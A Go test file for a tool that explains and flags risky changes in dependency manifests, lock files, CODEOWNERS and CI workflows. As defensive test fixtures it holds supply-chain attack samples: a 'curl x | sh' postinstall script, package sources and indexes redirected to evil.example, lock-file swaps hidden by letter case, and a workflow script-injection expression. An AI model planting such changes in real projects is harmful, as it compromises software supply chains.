package depend

import (
	"slices"
	"strings"
	"testing"

	"github.com/remit-dev/remit"
)

const lockHead = `{"lockfileVersion":3,"packages":{"":{"dependencies":{"left-pad":"^1.3.0"}},`

func entry(version, resolved, integrity, more string) string {
	return `"node_modules/left-pad":{"version":"` + version + `","resolved":"` + resolved + `","integrity":"` + integrity + `"` + more + `}}}`
}

const tarball = "https://npm.example/left-pad/-/left-pad-1.3.0.tgz"

func TestChanges(t *testing.T) {
	for _, c := range []struct {
		what, file, old, new string
		want                 string // lines
	}{
		{"a go dependency moves", "go.mod", "module m\nrequire a.example/x v1.0.0\n", "module m\nrequire a.example/x v1.1.0\n", "a.example/x v1.0.0 -> v1.1.0"},
		{"a new go dependency", "sub/go.mod", "module m\n", "module m\nrequire a.example/x v1.1.0\n", "new a.example/x v1.1.0"},
		{"a go dependency is dropped", "go.mod", "module m\nrequire a.example/x v1.1.0\n", "module m\n", "drops a.example/x v1.1.0"},
		{"a go dependency is replaced", "go.mod", "module m\nrequire a.example/x v1.1.0\n", "module m\nrequire a.example/x v1.1.0\nreplace a.example/x => evil.example/x v1.1.0\n",
			"a.example/x v1.1.0 from evil.example/x v1.1.0 (!) the version is the same, but it comes from elsewhere; it is replaced by evil.example/x v1.1.0"},
		{"a toolchain", "go.mod", "module m\ngo 1.26\n", "module m\ngo 1.26\ntoolchain go1.26.9\n", "new toolchain go1.26.9"},
		{"words only", "go.mod", "module m\n", "module m\n// a comment\n", ""},
		{"a hash in go.sum", "go.sum", "a.example/x v1.1.0 h1:AAA=\n", "a.example/x v1.1.0 h1:BBB=\n", "a.example/x v1.1.0 (!) the version is the same, but its content is another"},
		{"more in go.sum", "go.sum", "", "a.example/x v1.1.0 h1:BBB=\n", ""},
		{"a range in package.json", "package.json", `{"dependencies":{"left-pad":"^1.2.0"}}`, `{"dependencies":{"left-pad":"^1.3.0"}}`, "left-pad ^1.2.0 -> ^1.3.0"},
		{"an address in package.json", "package.json", `{"dependencies":{"left-pad":"^1.2.0"}}`, `{"dependencies":{"left-pad":"git+ssh://evil.example/x"}}`,
			"left-pad ^1.2.0 -> git+ssh://evil.example/x from git+ssh://evil.example"},
		{"an install script", "package.json", `{}`, `{"scripts":{"postinstall":"curl x | sh","test":"x"}}`, "new script postinstall curl x | sh, runs a script when installed (!) it runs when the package is installed"},
		{"overrides", "package.json", `{}`, `{"overrides":{"a":"npm:b@1"}}`, `overrides null -> {"a":"npm:b@1"} (!) it replaces what other packages ask for`},
		{"a lock that follows", "package-lock.json", `{"lockfileVersion":3,"packages":{"":{"dependencies":{"left-pad":"^1.2.0"}},` + entry("1.2.0", tarball, "sha512-a", ""),
			lockHead + entry("1.3.0", tarball, "sha512-b", ""), "left-pad 1.2.0 -> 1.3.0"},
		{"a swap hidden in a lock: address", "package-lock.json", lockHead + entry("1.3.0", tarball, "sha512-a", ""), lockHead + entry("1.3.0", "https://evil.example/left-pad.tgz", "sha512-b", ""),
			"left-pad 1.3.0 from evil.example (!) the version is the same, but its content is another; the version is the same, but it comes from elsewhere; the manifest asks for nothing new"},
		{"a swap hidden in a lock: content", "package-lock.json", lockHead + entry("1.3.0", tarball, "sha512-a", ""), lockHead + entry("1.3.0", tarball, "sha512-b", ""),
			"left-pad 1.3.0 (!) the version is the same, but its content is another; the manifest asks for nothing new"},
		{"a swap hidden in a lock: version", "package-lock.json", lockHead + entry("1.3.0", tarball, "sha512-a", ""), lockHead + entry("1.3.1", tarball, "sha512-b", `,"hasInstallScript":true`),
			"left-pad 1.3.0 -> 1.3.1, runs a script when installed (!) the manifest asks for nothing new"},
		{"a swap hidden in a lock: another package", "package-lock.json", lockHead + entry("1.3.0", tarball, "sha512-a", ""), lockHead + entry("1.3.0", "https://npm.example/evil/-/evil-1.3.0.tgz", "sha512-b", ""),
			"left-pad 1.3.0 (!) the version is the same, but its content is another; the version is the same, but it comes from elsewhere; the address is that of another package: https://npm.example/evil/-/evil-1.3.0.tgz; the manifest asks for nothing new"},
		{"a lock that names no host yet", "package-lock.json", `{"lockfileVersion":3,"packages":{"":{}}}`, lockHead + entry("1.3.0", tarball, "sha512-a", ""), "new left-pad 1.3.0 from npm.example"},
		{"nothing that binds the content", "package-lock.json", `{"lockfileVersion":3,"packages":{"":{}}}`, lockHead + entry("1.3.0", "http://mirror.example/x.tgz", "", ""),
			"new left-pad 1.3.0 from http://mirror.example (!) nothing binds its content (no integrity)"},
		{"a pin", "requirements.txt", "requests==2.31.0\n", "Requests==2.32.0 # why\n", "requests ==2.31.0 -> ==2.32.0"},
		{"no pin", "requirements-dev.txt", "", "requests>=2\nflask\n", "new flask (any) (!) it is not pinned to one version\nnew requests >=2 (!) it is not pinned to one version"},
		{"another index", "requirements.txt", "", "--index-url=https://evil.example/simple\n", "new --index-url https://evil.example/simple https://evil.example/simple (!) it says where all packages come from"},
		{"an address", "requirements.txt", "x==1\n", "x @ https://evil.example/x.whl\n", "x ==1 -> https://evil.example/x.whl from evil.example (!) it comes from an address, not from an index"},
		{"an editable install", "requirements.txt", "", "-e git+https://evil.example/x#egg=x\n", "new -e git+https://evil.example/x#egg=x git+https://evil.example/x#egg=x, runs a script when installed (!) it runs the setup of that directory or repository"},
		{"another hash", "requirements.txt", "x==1 --hash=sha256:aaaa\n", "x==1 \\\n  --hash=sha256:bbbb\n", "x ==1 with hashes aaaa -> ==1 with hashes bbbb"},
		{"an action", ".gitea/workflows/ci.yml", "on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - uses: actions/checkout@" + strings.Repeat("a", 40) + "\n",
			"on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - uses: actions/checkout@v4\n      - uses: evil/x@main\n",
			"actions/checkout " + strings.Repeat("a", 40) + " -> v4 (!) it is not pinned to a commit or digest\nnew evil/x main (!) it is not pinned to a commit or digest"},
		{"another file", "README.md", "a", "b", ""},
	} {
		changes, err := Changes(c.file, []byte(c.old), []byte(c.new))
		var got []string
		for _, ch := range changes {
			got = append(got, ch.String())
			if ch.File != c.file {
				t.Errorf("%s: the file is %q", c.what, ch.File)
			}
		}
		if err != nil || strings.Join(got, "\n") != c.want {
			t.Errorf("%s: %v\n%s\nwant\n%s", c.what, err, strings.Join(got, "\n"), c.want)
		}
	}
}

func TestWhatCannotBeReadIsSaid(t *testing.T) {
	for file, text := range map[string]string{
		"go.mod": "requiree {", "go.sum": "a b\n", "package.json": "{", "package-lock.json": `{"lockfileVersion":1,"dependencies":{}}`,
		"requirements.txt": "--unknown-option x\n", "requirements/a.txt": "!!\n",
	} {
		got, _ := (Explainer{}).Explain(file, nil, []byte(text))
		if len(got) != 1 || !strings.HasPrefix(got[0].String(), "(!) cannot be explained: ") || !slices.Equal(got[0].Findings, []string{remit.OddUnread}) || got[0].File != file {
			t.Errorf("%s: %+v", file, got)
		}
	}
	if got, _ := (Explainer{}).Explain("go.mod", nil, make([]byte, MaxFile+1)); len(got) != 1 || !strings.Contains(got[0].Text, "is larger than") {
		t.Errorf("%v", got)
	}
	if got := Workflow(".github/workflows/a.yml", nil, make([]byte, maxWorkflow+1)); len(got) != 1 || !strings.Contains(got[0].String(), "(!) the workflow is larger than") {
		t.Errorf("%v", got)
	}
	for _, file := range []string{"Cargo.lock", "a/yarn.lock", "pyproject.toml", "x/pom.xml", "App.csproj", "go.work"} {
		got, _ := (Explainer{}).Explain(file, []byte("a"), []byte("b"))
		if !(Explainer{}).Explains(file) || len(got) != 1 || !slices.Equal(got[0].Findings, []string{remit.OddUnread}) || got[0].File != file {
			t.Errorf("%s: %+v", file, got)
		}
	}
}

// Facts that a policy can compare, beside the words for people.
func TestFindingsHaveNames(t *testing.T) {
	locked := func(entries string) string { return `{"lockfileVersion":3,"packages":{"":{},` + entries + `}}` }
	const dir = `"node_modules/left-pad":`
	for _, c := range []struct{ what, file, old, new, want string }{
		{"content", "package-lock.json", lockHead + entry("1.3.0", tarball, "sha512-a", ""), lockHead + entry("1.3.0", tarball, "sha512-b", ""),
			"left-pad at npm.example: content-changed unasked"},
		{"host", "package-lock.json", lockHead + entry("1.3.0", tarball, "sha512-a", ""), lockHead + entry("1.3.0", "https://evil.example/left-pad.tgz", "sha512-a", `,"hasInstallScript":true`),
			"left-pad at evil.example elsewhere scripts: source-changed unasked"},
		{"alias without a hash", "package-lock.json", locked(dir + `{}`), locked(dir + `{"version":"1","resolved":"http://npm.example/x.tgz","name":"x"}`),
			"left-pad at http://npm.example elsewhere: unbound alias unasked"},
		{"no TLS", "package-lock.json", locked(dir + `{}`), locked(dir + `{"version":"1","resolved":"http://npm.example/left-pad.tgz","integrity":"sha512-a"}`),
			"left-pad at http://npm.example elsewhere: no-tls unasked"},
		{"repository", "package-lock.json", locked(dir + `{}`), locked(dir + `{"version":"1","resolved":"git+ssh://git@h.example/left-pad"}`),
			"left-pad at git+ssh://h.example elsewhere: direct unasked"},
		{"address of another", "package-lock.json", lockHead + entry("1.3.0", tarball, "sha512-a", ""), lockHead + entry("1.3.1", "https://npm.example/evil.tgz", "sha512-b", ""),
			"left-pad at npm.example: other-address unasked"},
		{"new at the usual place", "package-lock.json", lockHead + entry("1.3.0", tarball, "sha512-a", ""),
			`{"lockfileVersion":3,"packages":{"":{"dependencies":{"left-pad":"^1.3.0","b":"1"}},"node_modules/b":{"version":"1","resolved":"https://npm.example/b/-/b-1.tgz","integrity":"sha512-c"},` + entry("1.3.0", tarball, "sha512-a", ""),
			"b at npm.example new:"},
		{"project script", "package.json", `{}`, `{"scripts":{"prepare":"x"}}`, "script prepare new scripts: script"},
		{"overrides", "package.json", `{}`, `{"overrides":{"a":"1"}}`, "overrides: replaced"},
		{"go.sum", "go.sum", "a v1 h1:A=\n", "a v1 h1:B=\n", "a: content-changed"},
		{"replace", "go.mod", "module m\nrequire a.example/x v1.1.0\n", "module m\nrequire a.example/x v1.1.0\nreplace a.example/x => ../x\n", "a.example/x at ../x elsewhere: source-changed replaced"},
		{"pin", "requirements.txt", "", "a>1\n", "a new: unpinned"},
		{"index", "requirements.txt", "", "-i https://e.example\n", "--index-url https://e.example new: index"},
		{"trusted host", "requirements.txt", "", "--trusted-host e.example\n", "--trusted-host e.example new: no-tls"},
		{"address", "requirements.txt", "", "a @ https://e.example/a.whl\n", "a at e.example elsewhere new: direct"},
		// npm reads "packages"; encoding/json would take the last of any case.
		{"a lock file that hides in the case of a name", "package-lock.json", lockHead + entry("1.3.0", tarball, "sha512-a", ""),
			`{"lockfileVersion":3,"packages":{"":{"dependencies":{"left-pad":"^1.3.0"}},` + dir + `{"version":"1.3.0","resolved":"https://evil.example/left-pad","integrity":"sha512-b"}},` +
				`"Packages":{` + dir + `{"version":"1.3.0","resolved":"` + tarball + `","integrity":"sha512-a"}}}`,
			"left-pad at evil.example elsewhere: content-changed source-changed unasked"},
		{"an entry that hides in the case of a name", "package-lock.json", lockHead + entry("1.3.0", tarball, "sha512-a", ""),
			lockHead + entry("1.3.0", "https://evil.example/left-pad", "sha512-a", `,"Resolved":"`+tarball+`"`), "left-pad at evil.example elsewhere: source-changed unasked"},
		{"a file name in another case", "Package-Lock.JSON", lockHead + entry("1.3.0", tarball, "sha512-a", ""), lockHead + entry("1.3.0", tarball, "sha512-b", ""),
			"left-pad at npm.example: content-changed unasked"},
	} {
		changes, err := Changes(c.file, []byte(c.old), []byte(c.new))
		var got []string
		for _, d := range changes {
			line := d.Name
			if d.Registry != "" {
				line += " at " + d.Registry
			}
			for _, is := range []struct {
				so   bool
				name string
			}{{d.Elsewhere, "elsewhere"}, {d.New, "new"}, {d.Scripts, "scripts"}} {
				if is.so {
					line += " " + is.name
				}
			}
			got = append(got, strings.TrimSuffix(line+": "+strings.Join(d.Findings, " "), " "))
		}
		if err != nil || strings.Join(got, "\n") != c.want {
			t.Errorf("%s: %v\n%s\nwant\n%s", c.what, err, strings.Join(got, "\n"), c.want)
		}
	}
}

func TestOddChangesStandFirst(t *testing.T) {
	var old, new strings.Builder
	for _, n := range []string{"a", "b", "c"} {
		old.WriteString(n + "==1\n")
		new.WriteString(n + "==2\n")
	}
	changes, err := Changes("requirements.txt", []byte(old.String()), []byte(new.String()+"zz @ https://evil.example/z\n"))
	if err != nil || len(changes) != 4 || changes[0].Name != "zz" {
		t.Errorf("%v %v", changes, err)
	}
}

func TestWorkflow(t *testing.T) {
	const good = "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo hello\n"
	bad := strings.Replace(good, "echo hello", "echo ${{ github.event.pull_request.title }}", 1)
	if got := Workflow(".github/workflows/a.yml", nil, []byte(good)); len(got) != 0 {
		t.Errorf("a sound workflow: %v", got)
	}
	got := Workflow(".github/workflows/a.yml", []byte(good), []byte(bad))
	if len(got) != 1 || !strings.Contains(got[0].Text, "potentially untrusted") || got[0].Line != 6 || got[0].Kind != "expression" || got[0].Path != ".github/workflows/a.yml" {
		t.Errorf("script injection: %+v", got)
	}
	if got := Workflow(".github/workflows/a.yml", []byte(bad), []byte("# moved\n"+bad+"      - run: echo again\n")); len(got) != 0 {
		t.Errorf("what was wrong before: %v", got)
	}
	if got := Workflow("docs/a.yml", nil, []byte(bad)); got != nil {
		t.Errorf("a file that no forge runs: %v", got)
	}
}

func TestOwners(t *testing.T) {
	o := ParseOwners([]byte("# who\n* @all\n*.go @gophers @mia # those\n/docs/ @writers\nsrc/**/gen @gen\n/api/* @api\n.*\\.proto$ @wire\n(( @broken\nfree\n"))
	for path, want := range map[string]string{
		"README": "@all", "a/b.go": "@gophers @mia", "docs/x/y.md": "@writers", "a/docs/x.md": "@all", "src/a/b/gen/x": "@gen",
		"api/x": "@api", "api/x/y": "@all", "p/q.proto": "@wire", "free": "", "x/free/y": "",
	} {
		if got := strings.Join(o.Of(path), " "); got != want {
			t.Errorf("%s is owned by %q; want %q", path, got, want)
		}
	}
	if got := ParseOwners(nil).Of("x"); got != nil {
		t.Errorf("%q", got)
	}
}

func TestExplains(t *testing.T) {
	for _, f := range []string{"go.mod", "a/b/package-lock.json", "requirements.txt", "requirements/prod.txt", ".forgejo/workflows/x.yaml"} {
		if !(Explainer{}).Explains(f) {
			t.Errorf("%s is not explained", f)
		}
	}
	for _, f := range []string{"go.modx", "src/a.go", "workflows/x.yml", "a/.github/workflows/x.yml", ".github/workflows/sub/x.yml"} {
		if (Explainer{}).Explains(f) {
			t.Errorf("%s is explained", f)
		}
	}
}

// fuzz holds that a reader never panics, and that nothing changes between a content and itself.
func fuzz(f *testing.F, file string, seeds ...string) {
	for _, s := range seeds {
		f.Add([]byte(s), []byte(s+" "))
	}
	f.Fuzz(func(t *testing.T, old, new []byte) {
		if _, err := Changes(file, old, new); err == nil {
			if same, err := Changes(file, new, slices.Clone(new)); err != nil || len(same) != 0 {
				t.Fatalf("between %q and itself: %v %v", new, same, err)
			}
		}
	})
}

func FuzzGoMod(f *testing.F) {
	fuzz(f, "go.mod", "module m\nrequire a.example/x v1.1.0\nreplace a.example/x => ../x\n")
}
func FuzzGoSum(f *testing.F) { fuzz(f, "go.sum", "a.example/x v1.1.0 h1:AAA=\n") }
func FuzzPackageJSON(f *testing.F) {
	fuzz(f, "package.json", `{"dependencies":{"a":"1"},"scripts":{"install":"x"},"overrides":{"a":{"b":"1"}}}`)
}
func FuzzPackageLock(f *testing.F) {
	fuzz(f, "package-lock.json", lockHead+entry("1.3.0", tarball, "sha512-a", ""))
}
func FuzzRequirements(f *testing.F) {
	fuzz(f, "requirements.txt", "a==1 \\\n --hash=sha256:aa\n-r b\nx @ https://a.example/b\n")
}
func FuzzWorkflow(f *testing.F) {
	fuzz(f, ".github/workflows/a.yml", "on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - uses: a/b@v1\n")
}
func FuzzOwners(f *testing.F) {
	f.Add([]byte("* @a\n/x/**/y @b\n.*x$ @c\n"), "x/y")
	f.Fuzz(func(t *testing.T, file []byte, path string) { ParseOwners(file).Of(path) })
}
